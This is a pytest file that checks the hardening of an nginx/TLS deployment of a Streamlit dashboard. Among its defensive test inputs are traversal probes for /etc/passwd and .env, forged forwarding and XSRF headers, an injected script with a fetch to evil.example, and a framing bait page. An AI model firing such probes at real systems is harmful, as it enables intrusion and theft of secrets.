"""Slagtavle as it is used: behind nginx with TLS, with the configuration we ship."""

import csv
import io
import json
import re
import ssl
import subprocess
import sys
import time
from collections.abc import Iterator
from http.client import HTTPMessage, HTTPSConnection
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from tempfile import TemporaryDirectory
from threading import Thread
from urllib.parse import urlsplit
from urllib.request import HTTPRedirectHandler, Request, build_opener, urlopen

import pytest
from playwright.sync_api import Browser, Page, expect
from websockets.exceptions import ConnectionClosed, InvalidStatus
from websockets.sync.client import ClientConnection, connect

from tests.browser.conftest import (
    ROOT,
    fill_sign_in,
    heading,
    running_server,
    sample_url,
    settle,
)
from tests.browser.test_compare import YEAR
from tests.nginx import Nginx, nginx
from tests.servers import free_port

STREAM = "/_stcore/stream"
CHART = "[data-testid=stVegaLiteChart] svg"
# Loopback addresses of clients that are not told from each other otherwise.
ANOTHER, A_FLOODER = "127.0.0.2", "127.0.0.3"


@pytest.fixture(scope="module")
def behind() -> Iterator[Nginx]:
    """nginx in front of a server that believes nginx."""
    with (
        TemporaryDirectory(prefix="slagtavle_") as folder,
        pytest.MonkeyPatch.context() as patch,
    ):
        patch.setenv("SLAGTAVLE_PROXIES", "127.0.0.1")
        with (
            running_server(Path(folder)) as address,
            nginx(Path(folder), address.removeprefix("http://")) as running,
        ):
            yield running


@pytest.fixture
def tls_page(browser: Browser, behind: Nginx) -> Iterator[Page]:
    """A page behind nginx; what the browser complains of fails the test."""
    context = browser.new_context(
        base_url=behind.https,
        ignore_https_errors=True,
        viewport={"width": 1440, "height": 900},
    )
    page = context.new_page()
    complaints: list[str] = []
    page.on("console", lambda message: complaints.append(message.text))
    page.on("pageerror", lambda error: complaints.append(str(error)))
    yield page
    context.close()
    blocked = re.compile("Content Security Policy|Refused to|violat", re.IGNORECASE)
    assert [one for one in complaints if blocked.search(one)] == []


def tls(**options: str) -> ssl.SSLContext:
    """Return what a client needs that takes our self-signed certificate."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    for name, value in options.items():
        setattr(context, name, value)
    return context


def ask(
    behind: Nginx,
    path: str,
    method: str = "GET",
    body: bytes | None = None,
    source: str = "127.0.0.1",
    **headers: str,
) -> tuple[int, HTTPMessage, bytes]:
    """Ask nginx over TLS, with the path just as it is given."""
    connection = HTTPSConnection(
        "localhost", behind.port, context=tls(), timeout=20, source_address=(source, 0)
    )
    sent = {name.replace("_", "-"): value for name, value in headers.items()}
    try:
        connection.request(method, path, body, sent)
        answer = connection.getresponse()
        return answer.status, answer.headers, answer.read()
    finally:
        connection.close()


def stream(behind: Nginx, origin: str | None) -> ClientConnection:
    """Open the websocket as a browser on a page of that origin would."""
    return connect(
        f"wss://localhost:{behind.port}{STREAM}",
        origin=origin,  # type: ignore[arg-type]
        subprotocols=["streamlit"],  # type: ignore[list-item]
        ssl=tls(),
        open_timeout=20,
    )


class Stay(HTTPRedirectHandler):
    def redirect_request(self, *_: object) -> None:
        return None


def test_plain_http_leads_to_https(behind: Nginx):
    opener = build_opener(Stay())
    opener.addheaders = []
    with pytest.raises(OSError, match="301") as moved:
        opener.open(f"{behind.http}/indikator?ind=mortality_30d", timeout=20)
    location = moved.value.headers["Location"]  # type: ignore[attr-defined]
    assert location == "https://localhost/indikator?ind=mortality_30d"
    moved.value.close()  # type: ignore[attr-defined]


@pytest.mark.parametrize(
    "path", ["/", "/egen-avdeling", "/_stcore/health", "/favicon.png", "/no/such", "/."]
)
def test_every_answer_carries_the_headers_once(behind: Nginx, path: str):
    _, headers, _ = ask(behind, path)
    hsts = headers.get_all("Strict-Transport-Security")
    assert hsts == ["max-age=63072000"]
    assert headers.get_all("Server") == ["nginx"]
    assert "X-Powered-By" not in headers
    if path == "/.":
        return
    for name, value in {
        "X-Content-Type-Options": "nosniff",
        "X-Frame-Options": "SAMEORIGIN",
        "Referrer-Policy": "same-origin",
        "Cross-Origin-Opener-Policy": "same-origin",
        "Cross-Origin-Resource-Policy": "same-origin",
    }.items():
        assert headers.get_all(name) == [value]
    (permissions,) = headers.get_all("Permissions-Policy") or []
    assert "camera=()" in permissions
    (policy,) = headers.get_all("Content-Security-Policy") or []
    assert "default-src 'none'" in policy
    assert "frame-ancestors 'self'" in policy
    assert "unsafe-eval" not in policy
    (scripts,) = re.findall(r"script-src ([^;]+)", policy)
    assert "unsafe-inline" not in scripts


def test_no_answer_names_a_version(behind: Nginx):
    for path in ("/", "/_stcore/metrics", "/no/such", "/../../etc/passwd"):
        _, headers, body = ask(behind, path)
        told = f"{headers}{body.decode('utf-8', 'replace')}"
        assert not re.search(r"nginx/\d|uvicorn|python/\d", told, re.IGNORECASE)


def test_cookies_travel_by_tls_only(behind: Nginx):
    _, headers, _ = ask(behind, "/_stcore/health")
    cookies = headers.get_all("Set-Cookie") or []
    assert {one.partition("=")[0] for one in cookies} == {
        "_streamlit_xsrf",
        "slagtavle_process",
    }
    for cookie in cookies:
        assert "; secure" in cookie.lower()
        assert "; samesite=strict" in cookie.lower()


@pytest.mark.filterwarnings("ignore:ssl.TLSVersion.TLSv1")
def test_old_tls_is_refused(behind: Nginx):
    old = tls()
    old.set_ciphers("ALL:@SECLEVEL=0")
    old.minimum_version = ssl.TLSVersion.TLSv1
    old.maximum_version = ssl.TLSVersion.TLSv1_1
    connection = HTTPSConnection("localhost", behind.port, context=old, timeout=20)
    with pytest.raises(ssl.SSLError) as refused:
        connection.connect()
    assert "PROTOCOL_VERSION" in refused.value.reason


def test_another_name_gets_no_answer(behind: Nginx):
    connection = HTTPSConnection("127.0.0.1", behind.port, context=tls(), timeout=20)
    with pytest.raises(ssl.SSLError):
        connection.connect()


@pytest.mark.parametrize(
    "path",
    [
        "/_slagtavle/ready",
        "/_slagtavle/metrics",
        "/%5fslagtavle//metrics",
        "/_stcore/metrics",
        "//_stcore//metrics",
        "/x/../_stcore/metrics",
        "/%5fstcore/metrics",
        "/indikator/_stcore/metrics",
        "/_stcore/script-health-check",
        "/_stcore/agent/openapi.json",
        "/_stcore/agent/interact",
        "/.git/config",
        "/.env",
        "/.streamlit/secrets.toml",
        "/static/.%67it/config",
        "/access/..%2f.env",
    ],
)
def test_what_is_not_for_users_is_not_there(behind: Nginx, path: str):
    status, _, body = ask(behind, path)
    assert status == 404
    assert b"nginx" in body


def test_what_the_front_end_needs_is_there(behind: Nginx):
    assert ask(behind, "/_stcore/health")[0] == 200
    status, _, body = ask(behind, "/_stcore/host-config")
    assert status == 200
    assert json.loads(body)["allowedOrigins"] == []


@pytest.mark.parametrize("method", ["OPTIONS", "PATCH", "TRACE", "PROPFIND"])
def test_other_methods_are_refused(behind: Nginx, method: str):
    assert ask(behind, "/", method)[0] in (403, 405)


def test_a_body_too_large_is_refused_before_it_is_read(behind: Nginx):
    large = b"x" * 3_000_000
    for path in ("/", "/_stcore/health"):
        assert ask(behind, path, "PUT", large)[0] == 413


def test_a_file_that_nobody_asked_for_is_refused_by_its_first_lines(behind: Nginx):
    connection = HTTPSConnection("localhost", behind.port, context=tls(), timeout=20)
    connection.putrequest("PUT", "/_stcore/upload_file/session/file")
    connection.putheader("Content-Length", "100000000")
    connection.endheaders()
    # Not one byte of it is sent.
    assert connection.getresponse().status == 403
    connection.close()


def test_a_file_larger_than_any_registry_is_refused_by_nginx(behind: Nginx):
    connection = HTTPSConnection("localhost", behind.port, context=tls(), timeout=20)
    connection.putrequest("PUT", "/_stcore/upload_file/session/file")
    connection.putheader("Content-Length", "300000000")
    connection.endheaders()
    assert connection.getresponse().status == 413
    connection.close()


def test_an_upload_without_its_token_is_refused(behind: Nginx):
    path = "/_stcore/upload_file/session/file"
    assert ask(behind, path, "PUT", b"small")[0] == 403
    forged = {"X_Xsrftoken": "2|aa|bb|1", "Cookie": "_streamlit_xsrf=2|cc|dd|1"}
    assert ask(behind, path, "PUT", b"small", **forged)[0] == 403


def test_our_own_page_opens_the_websocket(behind: Nginx):
    with stream(behind, behind.https) as websocket:
        assert websocket.subprotocol == "streamlit"


@pytest.mark.parametrize(
    "origin",
    [
        "https://evil.example",
        "https://localhost.evil.example",
        "https://localhost",
        "http://localhost:3000",
        "null",
        None,
    ],
)
def test_another_site_s_page_opens_no_websocket(behind: Nginx, origin: str | None):
    with pytest.raises(InvalidStatus) as refused:
        stream(behind, origin)
    assert refused.value.response.status_code == 403


def test_without_nginx_a_foreign_page_opens_none_either(server: str):
    address = f"{server.replace('http', 'ws')}{STREAM}"
    for origin in ("https://evil.example", "http://localhost:3000", "http://[", "null"):
        began = time.monotonic()
        with pytest.raises(InvalidStatus) as refused:
            connect(address, origin=origin)  # type: ignore[arg-type]
        assert refused.value.response.status_code == 403
        # Streamlit's own refusal first asks the internet for this server's address.
        assert time.monotonic() - began < 2
    with connect(address, origin=server):  # type: ignore[arg-type]
        pass


@pytest.mark.parametrize(
    ("size", "codes"),
    [
        # Read, and not understood.
        (900_000, {1002}),
        # Not read: who is still sending may lose the line before hearing why.
        (1_500_000, {1009, None}),
    ],
)
def test_a_message_too_large_closes_the_websocket(
    behind: Nginx, size: int, codes: set[int | None]
):
    with stream(behind, behind.https) as websocket:
        # The line may be cut while it is still being sent.
        with pytest.raises(ConnectionClosed) as closed:  # noqa: PT012
            websocket.send(b"\xff" * size)
            websocket.recv(timeout=20)
        told = closed.value.rcvd
        assert (told.code if told else None) in codes


def test_a_flood_of_sessions_is_slowed_down(behind: Nginx):
    # By one connection: opening another for each takes longer than the limit allows.
    connection = HTTPSConnection(
        "localhost", behind.port, context=tls(), source_address=(A_FLOODER, 0)
    )
    answers = []
    while len(answers) < 1000 and 429 not in answers:
        connection.request("HEAD", STREAM, headers={"Origin": behind.https})
        answer = connection.getresponse()
        answer.read()
        answers.append(answer.status)
    connection.close()
    assert answers.index(429) > 100
    # One who floods does not shut the others out.
    assert ask(behind, STREAM, source=ANOTHER, Origin=behind.https)[0] != 429


def test_the_log_has_no_query_of_a_link(behind: Nginx):
    ask(behind, "/indikator?ind=mortality_30d")
    deadline = time.monotonic() + 10
    log = behind.folder / "access.log"
    while "/indikator" not in log.read_text():
        assert time.monotonic() < deadline
        time.sleep(0.1)
    assert "mortality_30d" not in log.read_text()


TELLS_THE_CLIENT = """
import sys
sys.path.insert(0, ".")
import serve, uvicorn

async def app(scope, receive, send):
    if scope["type"] == "http":
        told = f"{scope['client'][0]} {scope['scheme']}".encode()
        await send({"type": "http.response.start", "status": 200, "headers": []})
        await send({"type": "http.response.body", "body": told})

uvicorn.run(app, **{**serve.how_to_serve(), "lifespan": "off"})
"""


@pytest.fixture
def tells_the_client(request: pytest.FixtureRequest) -> Iterator[str]:
    """What uvicorn believes with these proxies set, told by a small application."""
    port = free_port()
    process = subprocess.Popen(
        [sys.executable, "-c", TELLS_THE_CLIENT],
        cwd=ROOT,
        env={**sample_url(), "PORT": str(port), "SLAGTAVLE_PROXIES": request.param},
        stderr=subprocess.DEVNULL,
    )
    address = f"127.0.0.1:{port}"
    deadline = time.monotonic() + 60
    while True:
        try:
            urlopen(f"http://{address}", timeout=2).close()
            break
        except OSError:
            assert process.poll() is None
            assert time.monotonic() < deadline
            time.sleep(0.2)
    yield address
    process.terminate()
    process.wait(timeout=30)


FORGED = {"X_Forwarded_For": "198.51.100.7", "X_Forwarded_Proto": "https"}


@pytest.mark.parametrize("tells_the_client", ["127.0.0.1"], indirect=True)
def test_the_user_s_own_address_arrives_and_none_that_is_made_up(tells_the_client: str):
    with (
        TemporaryDirectory(prefix="slagtavle_") as folder,
        nginx(Path(folder), tells_the_client) as running,
    ):
        said = ask(running, "/", source=ANOTHER, **FORGED)[2]
    assert said.decode() == f"{ANOTHER} https"


@pytest.mark.parametrize("tells_the_client", [""], indirect=True)
def test_nobody_s_word_counts_without_a_proxy_being_named(tells_the_client: str):
    sent = {name.replace("_", "-"): value for name, value in FORGED.items()}
    with urlopen(Request(f"http://{tells_the_client}", headers=sent)) as answer:
        assert answer.read().decode() == "127.0.0.1 http"


def sign_in(page: Page, username: str, path: str = "/") -> None:
    page.goto(path)
    fill_sign_in(page, username)
    expect(page.get_by_role("button", name="Logg ut")).to_be_attached()


def test_the_pages_work_under_the_policy(tls_page: Page, behind: Nginx, tmp_path: Path):
    sign_in(tls_page, "stolavs")
    heading(tls_page, "Oversikt")
    (cookie,) = [
        one for one in tls_page.context.cookies() if one["name"] == "slagtavle"
    ]
    assert (cookie["secure"], cookie["sameSite"]) == (True, "Strict")
    row = tls_page.get_by_role("row").filter(has_text="Trombolyse innen 40 minutter")
    row.get_by_role("button").first.click()
    heading(tls_page, "Indikator")
    expect(tls_page.locator(CHART).first).to_be_visible()
    assert tls_page.evaluate("document.documentElement.lang") == "nb"
    tls_page.goto(f"/sammenligning?ind=dysphagia_screening&{YEAR}")
    heading(tls_page, "Sammenligning")
    expect(tls_page.locator(CHART).first).to_be_visible()
    picture, _ = download(tls_page, "PNG", tmp_path)
    assert picture.startswith(b"\x89PNG")
    table, place = download(tls_page, "CSV", tmp_path)
    assert place[:7] == "/media/"
    assert ask(behind, place)[1]["Cache-Control"] == "no-store"
    names, *rows = csv.reader(io.StringIO(table.decode("utf-8-sig")), delimiter=";")
    assert "Indikator" in names
    assert len(rows) > 10
    tls_page.goto("/brukerveiledning?lang=en")
    heading(tls_page, "User guide")
    assert tls_page.evaluate("document.documentElement.lang") == "en"


def test_a_file_comes_through_to_the_page_that_asked_for_it(tls_page: Page):
    sign_in(tls_page, "sekretariat", "/innlesing")
    heading(tls_page, "Innlesing")
    # Larger than what all other addresses take.
    content = b"SkjemaGUID;UnitId;Slagdiagnose\n" + b"A;106340;2\n" * 300_000
    file = {"name": "akutt.csv", "mimeType": "text/csv", "buffer": content}
    tls_page.locator("input[type=file]").set_input_files(file)  # type: ignore[arg-type]
    tls_page.get_by_role("button", name="Kontroller filene").click()
    expect(tls_page.get_by_text("En av filene kan ikke leses til")).to_be_visible()
    expect(tls_page.get_by_text("Kolonnen mangler").first).to_be_attached()


def download(page: Page, kind: str, where: Path) -> tuple[bytes, str]:
    """Return a file of the first chart, and where the browser took it from."""
    # What is opened while the page is drawn anew closes again.
    settle(page)
    page.get_by_role("button", name="Last ned").first.click()
    with page.expect_download() as waiting:
        page.get_by_role("button", name=re.compile(kind)).first.click()
    waiting.value.save_as(where / "file")
    page.keyboard.press("Escape")
    return (where / "file").read_bytes(), urlsplit(waiting.value.url).path


def test_a_script_that_is_slipped_in_does_not_run(browser: Browser, behind: Nginx):
    context = browser.new_context(base_url=behind.https, ignore_https_errors=True)
    page = context.new_page()
    page.goto("/")
    expect(page.get_by_label("Brukernavn")).to_be_visible()
    ran = page.evaluate(
        """() => {
            const script = document.createElement("script");
            script.textContent = "window.slippedIn = true";
            document.body.append(script);
            const image = document.createElement("img");
            image.setAttribute("onerror", "window.slippedIn = true");
            image.src = "data:image/png,none";
            document.body.append(image);
            return new Promise((done) =>
                setTimeout(() => done(window.slippedIn === true), 500));
        }"""
    )
    assert ran is False
    # Nor can what is read be sent elsewhere.
    sent = page.evaluate(
        "fetch('https://evil.example/').then(() => 'sent', (e) => e.message)"
    )
    assert sent != "sent"
    blocked = page.evaluate(
        """() => new Promise((done) => {
            document.addEventListener("securitypolicyviolation",
                (event) => done(event.effectiveDirective));
            fetch("https://evil.example/").catch(() => null);
        })"""
    )
    assert blocked == "connect-src"
    context.close()


class Bait(BaseHTTPRequestHandler):
    """Another site, which shows our page inside its own."""

    address = ""

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(f"<iframe src='{self.address}/'></iframe>".encode())

    def log_message(self, *_: object) -> None:
        pass


def test_no_other_site_frames_the_page(browser: Browser, behind: Nginx):
    context = browser.new_context(ignore_https_errors=True)
    page = context.new_page()
    Bait.address = behind.https
    with ThreadingHTTPServer(("127.0.0.1", 0), Bait) as other_site:
        Thread(target=other_site.serve_forever).start()
        with page.expect_event(
            "requestfailed", lambda request: request.url == f"{behind.https}/"
        ) as failed:
            page.goto(f"http://127.0.0.1:{other_site.server_port}/")
        other_site.shutdown()
    assert failed.value.failure == "net::ERR_BLOCKED_BY_RESPONSE"
    context.close()
